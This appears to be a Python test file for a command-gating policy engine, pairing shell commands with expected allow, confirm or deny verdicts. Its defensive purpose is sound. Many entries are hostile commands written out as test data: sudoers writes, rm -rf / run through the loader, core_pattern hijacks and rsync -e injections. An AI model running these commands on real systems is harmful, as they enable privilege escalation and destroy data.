    ("cd /etc/sudoers.d && star -x f=a.tar", "confirm", "no-credential-file-writes"),
    ("star -x -/ f=a.tar", "confirm", "no-raw-disk-write"),
    ("cd /etc/sudoers.d && star f=a.tar -x", "confirm", "no-credential-file-writes"),
    ("star -c f=/etc/sudoers.d/x a", "deny", "no-credential-file-writes"),
    ("7z x a.7z -o /etc/sudoers.d", "confirm", "no-credential-file-writes"),
    ("aunpack -X /etc a.zip", "confirm", "no-credential-file-writes"),
    ("cd /etc/sudoers.d && dtrx a.zip", "confirm", "no-credential-file-writes"),
    ("unshar a.shar", "confirm", "no-raw-disk-write"),
    # what GNU cpio (2.13, run here), unzip `-:` and Python's tarfile keep: absolute names and
    # `../` from the archive, or from the names cpio -p reads: anywhere
    ("cpio -i -D /srv/x < a.cpio", "confirm", "no-raw-disk-write"),
    ("rpm2cpio a.rpm | cpio -idm", "confirm", "no-raw-disk-write"),
    ("cpio -i --no-absolute-filenames --absolute-filenames < a.cpio", "confirm", "no-raw-disk-write"),
    ("cpio -idr --no-absolute-filenames < a.cpio", "confirm", "no-raw-disk-write"),
    ("find . | cpio -pdm /backup", "confirm", "no-raw-disk-write"),
    ("echo ../etc/sudoers.d/x | cpio -p /srv", "confirm", "no-raw-disk-write"),
    ("unzip -: a.zip -d /srv", "confirm", "no-raw-disk-write"),
    ("unzip -od /etc/sudoers.d a.zip", "confirm", "no-credential-file-writes"),
    ("unzip -qd/etc a.zip", "confirm", "no-credential-file-writes"),
    ("python3 -m tarfile -e a.tar /srv/app", "confirm", "no-raw-disk-write"),
    ("python3 -m tarfile --filter fully_trusted -e a.tar /srv", "confirm", "no-raw-disk-write"),
    # honest: nothing they can touch is protected
    ("cp -a /srv/app /srv/backup", "allow", "defaults.unmatched"),
    ("cp -r /etc/nginx /backup", "allow", "defaults.unmatched"),
    ("cp -a /etc /backup", "allow", "defaults.unmatched"),
    ("cd /srv && cp --parents app/conf /backup", "allow", "defaults.unmatched"),
    ("rsync -a /srv/app /backup", "allow", "defaults.unmatched"),
    ("rsync -aR /srv/./app /backup", "allow", "defaults.unmatched"),
    ("rsync -ab --backup-dir=old /srv/app /backup", "allow", "defaults.unmatched"),
    ("rsync -a --link-dest=/backup/prev /srv/app /backup/new", "allow", "defaults.unmatched"),
    ("rsync -r --files-from=/tmp/list /srv /backup", "allow", "defaults.unmatched"),
    ("find . -name '*.tmp' -exec rm {} \\;", "allow", "defaults.unmatched"),
    ("find /srv -type d -exec cp /src/x {} \\;", "allow", "defaults.unmatched"),
    ("mv /srv/a /srv/b", "allow", "defaults.unmatched"),
    ("mv /etc/nginx/a /etc/nginx/b", "allow", "defaults.unmatched"),
    ("mv x.conf /etc", "allow", "defaults.unmatched"),
    ("ln -s /etc/nginx/sites-available/a /etc/nginx/sites-enabled/", "allow", "defaults.unmatched"),
    ("ln -s ../nginx/sites-available/a /etc/nginx/sites-enabled/a", "allow", "defaults.unmatched"),
    ("rm -rf /srv/app/tmp", "allow", "defaults.unmatched"),
    ("rm -r /etc/nginx", "allow", "defaults.unmatched"),
    ("rename 's/x/y/' /etc/x", "allow", "defaults.unmatched"),
    ("rename 's/\\.txt$/.md/' a.txt", "allow", "defaults.unmatched"),
    ("rename 's/\\.txt$/.md/' /srv/app/*.txt", "allow", "defaults.unmatched"),
    ("rename 's/x/y/g' /etc/sudoexrs", "allow", "defaults.unmatched"),
    ("rename.ul -v foo bar /srv/app/foo.conf", "allow", "defaults.unmatched"),
    ("tar xzf app.tgz -C /srv", "allow", "defaults.unmatched"),
    ("tar xf a.tar", "allow", "defaults.unmatched"),
    ("tar tf a.tar", "allow", "defaults.unmatched"),
    ("tar czf /backup/a.tgz /etc", "allow", "defaults.unmatched"),
    ("unzip -l a.zip", "allow", "defaults.unmatched"),
    ("unzip a.zip -d /srv/app", "allow", "defaults.unmatched"),
    ("cpio -idm --no-absolute-filenames -D /srv/app < a.cpio", "allow", "defaults.unmatched"),
    ("rpm2cpio a.rpm | cpio -idm --no-abs", "allow", "defaults.unmatched"),
    ("cpio -t < a.cpio", "allow", "defaults.unmatched"),
    ("python3 -m tarfile --filter data -e a.tar /srv/app", "allow", "defaults.unmatched"),
    ("ar t lib.a", "allow", "defaults.unmatched"),
    ("ar p lib.a x.o", "allow", "defaults.unmatched"),
    ("cd /srv/build && ar x lib.a", "allow", "defaults.unmatched"),
    ("ar rcs /srv/build/lib.a a.o", "allow", "defaults.unmatched"),
    ("ls | xargs ar t", "allow", "defaults.unmatched"),
    ("7z l a.7z", "allow", "defaults.unmatched"),
    ("7z x a.7z -o/srv/app", "allow", "defaults.unmatched"),
    ("unsquashfs -l a.sqfs", "allow", "defaults.unmatched"),
    ("cd /etc && unsquashfs a.sqfs", "allow", "defaults.unmatched"),
    ("dpkg-deb -c a.deb", "allow", "defaults.unmatched"),
    ("dpkg-deb -I a.deb", "allow", "defaults.unmatched"),
    ("dpkg-deb --fsys-tarfile a.deb | tar -t", "allow", "defaults.unmatched"),
    ("dpkg-deb -x a.deb /tmp/x", "allow", "defaults.unmatched"),
    ("cd /etc && dpkg-deb -e a.deb", "allow", "defaults.unmatched"),
    ("jar tf a.jar", "allow", "defaults.unmatched"),
    ("cd /srv/app && jar xf app.war", "allow", "defaults.unmatched"),
    ("bsdtar -tf a.tar", "allow", "defaults.unmatched"),
    ("pax -f a.pax", "allow", "defaults.unmatched"),
    ("unrar l a.rar", "allow", "defaults.unmatched"),
    ("lsar a.rar", "allow", "defaults.unmatched"),
    ("cabextract -l a.cab", "allow", "defaults.unmatched"),
    ("lha l a.lzh", "allow", "defaults.unmatched"),
    ("gem list", "allow", "defaults.unmatched"),
    ("python3 -m zipfile -l a.zip", "allow", "defaults.unmatched"),
    ("python3 -m zipfile -e a.zip /srv/app", "allow", "defaults.unmatched"),
    ("tar -xf a.tar -C /srv/app conf/", "allow", "defaults.unmatched"),
    ("cd /srv && aunpack a.zip", "allow", "defaults.unmatched"),
    ("gtar czf /backup/a.tgz /etc", "allow", "defaults.unmatched"),
    ("unzip -o a.zip -d /srv/app", "allow", "defaults.unmatched"),
]


@each(("line", "action", "rule"), ATTACK_M_COPIES)
def test_attack_m_copies_links_moves_and_renames_are_judged_where_they_land(
        default_policy: Policy, line: str, action: str, rule: str) -> None:
    verdict = evaluate(default_policy, line, role="engineer", target="web01", interactive=False)
    assert (verdict.action, verdict.rule) == (action, rule)


def test_a_moved_folder_over_sftp_carries_its_files() -> None:
    # sftp's rename of /etc is `mv /etc B`: the credential files go with it.
    policy = small_policy(SUDOERS)
    assert judge_path(policy, "mv", ["/etc", "/tmp/v"], role="r", target="t").action == "deny"
    assert judge_path(policy, "mv", ["/srv", "/tmp/v"], role="r", target="t").action == "allow"

@each("line", [
    "gdb -batch -x /dev/stdin",
    "printf 'shell touch /tmp/canary\\n' | gdb -batch",
    "gdb -batch <<< 'python import os'",
    "echo 'platform shell id' | lldb -b",
    "elvish -norc <<< 'touch /tmp/c'",
    "echo '* * * * * touch /tmp/c' | crontab -",
    "crontab - <<< '* * * * * touch /tmp/c'",
    "echo '\\! id' | psql -f /dev/stdin",
    "echo '!id' | sftp -b /dev/stdin host",
    "lldb -b -o 'platform shell id' ./prog",
    "lldb -b -o 'script import os' ./prog",
    "lldb -b -s cmds.txt ./prog",
    "nu --commands 'ls'",
    "elvish -c 'ls'",
    "gnuplot -e 'system(1)'",
    "octave --eval 'system(1)'",
])
def test_attack_m_code_fed_to_programs_that_run_it_is_unknown(default_policy: Policy, line: str) -> None:
    verdict = evaluate(default_policy, line, role="engineer", target="web01", interactive=False)
    assert (verdict.action, verdict.rule) == ("confirm", "defaults.unknown"), verdict


@each("line", [
    *(f"echo x | {shell}" for shell in sorted(SHELLS)),
    "echo 'touch /tmp/c' | elvish -norc",
    "echo 'ls' | nu -n",
    "echo '(run-program :sh)' | sbcl",
    "echo 'x' | ghci x.hs",
    "echo 'x' | julia",
    "echo 'x' | guile -l x.scm",
    "echo 'x' | deno run -",
    "echo 'x' | erl",
    "echo 'x' | kotlinc",
    "echo 'x' | pry",
])
def test_text_piped_into_any_shell_or_interpreter_is_refused_by_the_shipped_rule(
        default_policy: Policy, line: str) -> None:
    # The shipped rule names the programs fed: it must keep up with SHELLS and INTERPRETERS.
    verdict = evaluate(default_policy, line, role="engineer", target="web01", interactive=False)
    assert (verdict.action, verdict.rule) == ("deny", "no-pipe-into-shell"), verdict


def test_attack_m_shell_code_in_a_here_document_to_gdb_is_judged(default_policy: Policy) -> None:
    verdict = evaluate(default_policy, "gdb -batch <<< 'shell rm -rf /etc'", role="engineer",
                       target="web01", interactive=False)
    assert verdict.action == "deny", verdict


@each(("line", "expected"), [
    # enough `..`s reach /etc from any home: the top path is held where a rule meets it
    ("echo x >> ../../../../../../etc/sudoers", "confirm"),
    ("echo x >> ../etc/sudoers", "confirm"),
    ("mv ../../etc /tmp/v", "confirm"),
    ("rm -rf ../../..", "confirm"),
    ("cd ..; rm -rf *", "confirm"),  # from a home: every home
    # honest climbing stays allowed where nothing protected is met
    ("cp x ../backup.tar", "allow"),
    ("rm -rf ../build", "allow"),
    ("mv ../a ../b", "allow"),
    ("tar xf ../a.tar", "allow"),
    ("echo x > ../out.log", "allow"),
    ("ln -s ../shared/config .", "allow"),
    ("cd /etc; echo x >> ../etc/sudoers", "deny"),  # a directory known on the line: exact
])
def test_a_relative_path_that_climbs_is_also_the_path_from_the_top(default_policy, line, expected):
    assert action(default_policy, line) == expected

# Outside attack O: writers whose file is known only at run time (a configuration, an encoded
# name, a startup file), held by the shipped policy; then everyday lines near them, allowed.
ATTACK_O = [
    # finding 6: configuration the bastion cannot read, under any name
    *[(f"systemd-tmpfiles --create {config}", "confirm", "no-raw-disk-write") for config in (
        "-", "/dev/stdin", "/dev//stdin", "/dev/./stdin", "/dev/stdin/", "//dev/stdin",
        "/dev/../dev/stdin", "/dev/fd/3 3<&0", "/proc/self/fd/0", "/tmp/t.conf")],
    ("cd /dev && systemd-tmpfiles --create stdin", "confirm", "no-raw-disk-write"),
    ("systemd-tmpfiles --remove --prefix /var /tmp/t.conf", "confirm", "no-raw-disk-write"),
    ("systemd-tmpfiles --create --graceful /tmp/t.conf", "confirm", "no-raw-disk-write"),
    ("systemd-tmpfiles /tmp/t.conf --create", "confirm", "no-raw-disk-write"),
    ("systemd-sysusers /dev//stdin", "confirm", "no-raw-disk-write"),
    ("systemd-sysusers --inline 'u evil 0 - /root'", "confirm", "no-raw-disk-write"),
    ("systemd-sysctl /dev/./stdin", "confirm", "no-raw-disk-write"),
    ("sysctl -p /tmp/s.conf", "confirm", "no-raw-disk-write"),
    ("sysctl -p/dev/stdin", "confirm", "no-raw-disk-write"),
    ("sysctl --load=/tmp/s.conf", "confirm", "no-raw-disk-write"),
    ("sysctl -f - ", "confirm", "no-raw-disk-write"),
    ("modprobe -C /tmp/m.conf dummy", "confirm", "defaults.unknown"),
    # finding 8: a file named where the bastion cannot read it
    ("curl -K - file:///tmp/a", "confirm", "no-raw-disk-write"),
    ("echo 'output=/etc/sudoers.d/x' | curl -sK - file:///tmp/a", "confirm", "no-raw-disk-write"),
    ("curl --config /tmp/cfg http://h/", "confirm", "no-raw-disk-write"),
    ("curl --conf=/tmp/cfg http://h/", "confirm", "no-raw-disk-write"),
    ("curl -w @/tmp/format http://h/", "confirm", "no-raw-disk-write"),
    ("wget --config=/tmp/rc http://h/", "confirm", "no-raw-disk-write"),
    ("wget -e unknown_command=1 http://h/", "confirm", "no-raw-disk-write"),
    ("WGETRC=/tmp/rc wget http://h/", "confirm", "defaults.unknown"),
    ("export WGETRC=/tmp/rc", "confirm", "defaults.unknown"),
    ("CURL_HOME=/tmp/h curl http://h/", "confirm", "no-raw-disk-write"),  # its .curlrc: as -K (u30f 2)
    ("HOME=/tmp/h wget http://h/", "confirm", "no-raw-disk-write"),
    ("export HOME=/tmp/h; curl -s http://h/", "confirm", "no-raw-disk-write"),
    ("XDG_CONFIG_HOME=/tmp/h curl -s http://h/", "confirm", "no-raw-disk-write"),
    ("uudecode /tmp/x.uu", "confirm", "no-raw-disk-write"),
    ("reformime -x /etc/sudoers.d/ < /tmp/m", "confirm", "no-credential-file-writes"),
    ("cd /etc/sudoers.d && lzop -dN a.lzo", "deny", "no-credential-file-writes"),
    ("cd /etc/sudoers.d && unpigz -N a.gz", "deny", "no-credential-file-writes"),
    # everyday
    ("history", "allow", "defaults.unmatched"),
    ("history -w", "allow", "defaults.unmatched"),
    ("history -a", "allow", "defaults.unmatched"),
    ("history 20", "allow", "defaults.unmatched"),
    # bash reads no option after the first operand: -r reads /tmp/a, `-w ...` are operands
    ("history -r /tmp/a -w /etc/sudoers.d/x", "allow", "defaults.unmatched"),
    ("history -w /tmp/h /etc/sudoers.d/x", "allow", "defaults.unmatched"),
    ("systemd-tmpfiles --clean", "allow", "defaults.unmatched"),
    ("systemd-tmpfiles --create", "allow", "defaults.unmatched"),
    ("systemd-tmpfiles --clean --prefix /var/tmp", "allow", "defaults.unmatched"),
    ("systemd-tmpfiles --cat-config", "allow", "defaults.unmatched"),
    ("systemd-sysusers", "allow", "defaults.unmatched"),
    ("systemd-sysusers --dry-run /tmp/u.conf", "allow", "defaults.unmatched"),
    ("sysctl -a", "allow", "defaults.unmatched"),
    ("sysctl -p", "allow", "defaults.unmatched"),
    ("sysctl --system", "allow", "defaults.unmatched"),
    ("sysctl net.ipv4.ip_forward", "allow", "defaults.unmatched"),
    ("sysctl -w net.ipv4.ip_forward=1", "allow", "defaults.unmatched"),
    ("modprobe br_netfilter", "allow", "defaults.unmatched"),
    ("openssl req -new -key k.pem -out req.csr", "allow", "defaults.unmatched"),
    ("openssl x509 -in cert.pem -noout -text", "allow", "defaults.unmatched"),
    ("openssl s_client -connect h:443 -servername h", "allow", "defaults.unmatched"),
    ("curl -s -o /dev/null -w '%{http_code}' https://h/", "allow", "defaults.unmatched"),
    ("curl -fsSLo /tmp/install.sh https://h/install.sh", "allow", "defaults.unmatched"),
    ("wget -q https://h/release.tgz", "allow", "defaults.unmatched"),
    ("wget http://h/", "allow", "defaults.unmatched"),
    ("wget -e robots=off -r -np https://h/docs/", "allow", "defaults.unmatched"),
    ("wget -qO- https://h/status", "allow", "defaults.unmatched"),
    ("HOME=/tmp/h git status", "confirm", "defaults.unknown"),  # git reads settings there (attack O, 11)
    ("less -R /var/log/syslog", "allow", "defaults.unmatched"),
    ("gcc -fno-omit-frame-pointer -O2 -o app app.c", "allow", "defaults.unmatched"),
    ("cd /srv && gcc -Wformat-overflow -c x.c", "allow", "defaults.unmatched"),
    ("unlz4 backup.tar.lz4", "allow", "defaults.unmatched"),
    ("zstd -d db.zst -o /srv/db", "allow", "defaults.unmatched"),
    ("brotli -k asset.js", "allow", "defaults.unmatched"),
    ("uudecode -o /tmp/x /tmp/x.uu", "allow", "defaults.unmatched"),
]


@each(("line", "action", "rule"), ATTACK_O)
def test_attack_o_writers_get_the_verdict_their_class_needs(default_policy: Policy, line: str,
                                                            action: str, rule: str) -> None:
    verdict = evaluate(default_policy, line, role="engineer", target="web01", interactive=False)
    assert (verdict.action, verdict.rule) == (action, rule), verdict.commands


def test_sysctl_settings_are_writes_of_their_proc_sys_files() -> None:
    # `sysctl KEY=VALUE` is `echo VALUE > /proc/sys/KEY`: one rule names both (attack O).
    policy = small_policy({"name": "w", "action": "deny", "commands": [">"],
                           "paths": ["/proc/sys/kernel/core_pattern"]})
    for line in ("echo '|/tmp/x' > /proc/sys/kernel/core_pattern",
                 "sysctl -w kernel.core_pattern='|/tmp/x'", "sysctl kernel/core_pattern=x",
                 "sysctl -q -w kernel.core_pattern=x vm.swappiness=1"):
        assert evaluate(policy, line, role="r", target="t").action == "deny", line
    for line in ("sysctl kernel.core_pattern", "sysctl -w vm.swappiness=10"):
        assert evaluate(policy, line, role="r", target="t").action == "allow", line


@each(("line", "expected"), [
    # attack T: another program than its name says: a process's exe, an open descriptor, the
    # dynamic loader (each ran `touch canary` or anything, unjudged)
    ("/proc/self/exe -c 'rm -rf /'", "confirm"),
    ("/proc/thread-self/exe -c x", "confirm"),
    ("/dev/fd/../exe -c x", "confirm"),
    ("/lib64/ld-linux-x86-64.so.2 /bin/sh", "confirm"),
    ("/lib/ld-musl-x86_64.so.1 /bin/rm -rf /", "confirm"),
    ("PS1=x /lib64/ld-linux-x86-64.so.2 /bin/sh", "confirm"),
    # honest paths stay allowed
    ("/usr/bin/ls -l", "allow"),
    ("./deploy.sh", "allow"),
    ("/opt/app/bin/run --fd 3", "allow"),
])
def test_a_program_named_through_proc_a_descriptor_or_the_loader_is_unknown(default_policy, line,
                                                                           expected):
    assert action(default_policy, line) == expected


@each(("line", "expected"), [
    # attack T: TERM assigned by arithmetic (a number names no terminal: readline goes dumb)
    (": $((TERM=1))", "confirm"),
    ("a=$((TERM=7)) bash --rcfile rc", "confirm"),
    ("(( TERM = 1 ))", "confirm"),
    ("x[TERM=1]=2", "confirm"),
    ("let TERM=1", "confirm"),
    # arithmetic on other names keeps its verdict; `let x=1` makes x a number (it failed closed
    # on a regular expression without its group)
    ("let x=1", "allow"),
    ("echo $((2+3))", "allow"),
    ("i=0; (( i++ ))", "allow"),
])
def test_term_assigned_by_arithmetic_is_held(default_policy, line, expected):
    assert action(default_policy, line) == expected


@each(("line", "expected"), [
    # attack U: rsync's -e at the end of a cluster (popt reads the rest, or the next word, as the
    # command), its options that take a value after the destination, a shell the list lacked
    ("rsync -avze 'sh -c \"cp /tmp/x /etc/sudoers.d/x\"' /tmp/a h:/tmp/b", "deny"),
    ("rsync -ae'sh -c \"cp /tmp/x /etc/sudoers.d/x\"' /tmp/a h:/tmp/b", "deny"),
    ("rsync /tmp/x /etc/sudoers.d/x --bwlimit 100", "deny"),
    ("rsync /tmp/x /etc/sudoers.d/x --info progress2", "deny"),
    ("echo x | sash", "deny"),  # no-pipe-into-shell names every shell of the list
    # honest rsync stays as it was
    ("rsync -avze ssh /srv/app/ web02:/srv/app/", "alert"),
    ("rsync -a --delete --bwlimit 100 /srv/a/ /srv/b/", "allow"),
])
def test_attack_u_rsync_clusters_and_values(default_policy, line, expected):
    assert action(default_policy, line) == expected


@each(("line", "expected"), [
    # attack U: a pull's sender that removes what it sent; curl's other spellings of a file URL;
    # find's start points after `--`
    ("rsync --server --sender -logDtpre.iLsfxCIvu --remove-source-files . /etc/sudoers", "deny"),
    ("rsync --server --sender -logDtpre.iLsfxCIvu --remove-sent-files . /etc/sudoers", "deny"),
    ("curl -T /tmp/x file:/etc/sudoers", "deny"),
    ("curl -T /tmp/x file:///etc/%73udoers", "deny"),
    ("find -- /etc/sudoers -delete", "deny"),
    ("find -P -- /etc -name sudoers -exec rm {} \\;", "deny"),
    ("cd /etc/sudoers.d && ar -v x /tmp/a.ar", "confirm"),  # the operation after a modifier
    ("cd /etc/sudoers.d && ar v x /tmp/a.ar", "confirm"),
    # gdb reads options with getopt_long_only: any start of -eval-command or -command is one
    ("gdb -batch -nx -ex echo -ev 'shell cp /tmp/x /etc/sudoers.d/x'", "confirm"),
    ("gdb -batch -nx -eval='shell id'", "confirm"),
    ("gdb -batch -comm=/tmp/f", "confirm"),
    # honest halves
    ("gdb -batch -ex bt ./prog core", "allow"),
    ("ar -v t /tmp/a.ar", "allow"),
    ("cd /srv/build && ar -v x lib.a", "allow"),
    ("rsync --server --sender -logDtpre.iLsfxCIvu . /etc/sudoers", "allow"),  # a pull reads
    ("rsync --server --sender -logDtpre.iLsfxCIvu --remove-source-files . /srv/out/x", "allow"),
    ("find -- /srv -name '*.tmp' -delete", "allow"),
])
def test_attack_u_senders_file_urls_and_find_start_points(default_policy, line, expected):
    assert action(default_policy, line) == expected
